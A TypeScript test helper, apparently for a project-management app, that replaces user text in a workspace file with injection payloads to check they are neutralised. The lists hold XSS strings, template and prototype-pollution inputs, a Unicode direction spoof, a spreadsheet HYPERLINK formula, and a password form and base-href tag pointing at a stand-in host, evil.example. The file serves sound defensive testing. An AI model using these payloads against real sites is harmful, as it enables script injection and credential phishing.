// Replaces all user text in a workspace file with attacks.

/** Attacks for plain text fields. Each fits into the shortest field, an 80-character name. */
export const attacks = [
  '<img src=x onerror=window.__pwned=1>',
  '<script>window.__pwned=1</script>',
  '"><svg onload=window.__pwned=1>',
  "'-window.__pwned=1-'",
  'javascript:window.__pwned=1//',
  '[x](javascript:window.__pwned=1) ![x](http://evil.example/x.png)',
  "{{constructor.constructor('window.__pwned=1')()}}",
  '\u0024{window.__pwned=1}<%= 7*7 %>',
  '</title></style></textarea><iframe srcdoc="<script>">',
  '<a href="http://evil.example/">x</a>&lt;b&gt;%00%s',
  '\u202Egnp.kcatta\u202C\u200B\uFEFF',
  'W'.repeat(70),
  '=HYPERLINK("http://evil.example/","x")',
  '__proto__',
  'constructor',
  'http://evil.example/?a=<b>',
];

/** Attacks for comments. The sanitiser lets some of this markup through; none of it may run. */
export const htmlAttacks = [
  ...attacks,
  '<p onclick="window.__pwned=1">a</p>',
  '<a href="javascript:window.__pwned=1">a</a><a href="http://evil.example/">b</a>',
  '<img src="http://evil.example/x.png"><style>*{display:none}</style><p style="position:fixed;inset:0">over</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
  '<form action="http://evil.example/"><input name="password"><button>go</button></form>',
  '<p id="root" class="mantine-Modal-root" data-testid="x">b</p><base href="http://evil.example/">',
];

/** JSON members of a workspace file that contain user text, as a string or as a list of lines. */
const free = new Set([
  'name',
  'title',
  'description',
  'goal',
  'comment',
  'label',
  'service',
  'firstname',
  'lastname',
  'reason',
  'type',
]);
const lists = new Set(['default_dod', 'dod', 'dod_done', 'acceptance_criteria', 'ticket_types']);
/** Members whose values are validated or are references. */
const bound = new Set(
  `assignee at author bg_color color committed_at created_at currency date day deleted_at dependencies done_at due_date email end_date epic from holidays key
  logged_at mentions noun old_keys plan pred priority project_role rank rates_for ref renamed_at reported_at scrum_role sprint start_date status
  subscribed_at succ super_epic tags target_date to updated_at user uuid what`.split(/\s+/),
);

/** Replaces each string with an attack; equal strings of the same kind get the same attack. */
export class Poison {
  private readonly assigned = new Map<string, string>();

  of(kind: string, text: string): string {
    const key = `${kind} ${text}`;
    const known = this.assigned.get(key);
    if (known !== undefined) return known;
    const n = this.assigned.size;
    const attack = `${attacks[n % attacks.length]}${n < attacks.length ? '' : ` ${n}`}`;
    this.assigned.set(key, attack);
    return attack;
  }

  /** Poisons a workspace file. Throws if a member is listed neither as free text nor as bound. */
  workspace(node: unknown, name = '', parent = ''): unknown {
    if (Array.isArray(node)) return node.map((item) => this.workspace(item, name, parent));
    if (node !== null && typeof node === 'object') {
      return Object.fromEntries(Object.entries(node).map(([key, value]) => [key, this.workspace(value, key, name)]));
    }
    if (typeof node !== 'string' || bound.has(name)) return node;
    if (name === 'type' && parent === 'dependencies') return node;
    if (name === 'content') return `<p>text</p>${htmlAttacks[this.assigned.size % htmlAttacks.length]}`;
    if (name === 'type' || name === 'ticket_types' || parent === 'types') return this.of('type', node);
    if (free.has(name) || lists.has(name)) return this.of(name, node);
    throw new Error(`the member ${parent}.${name} is listed neither as free text nor as bound`);
  }
}
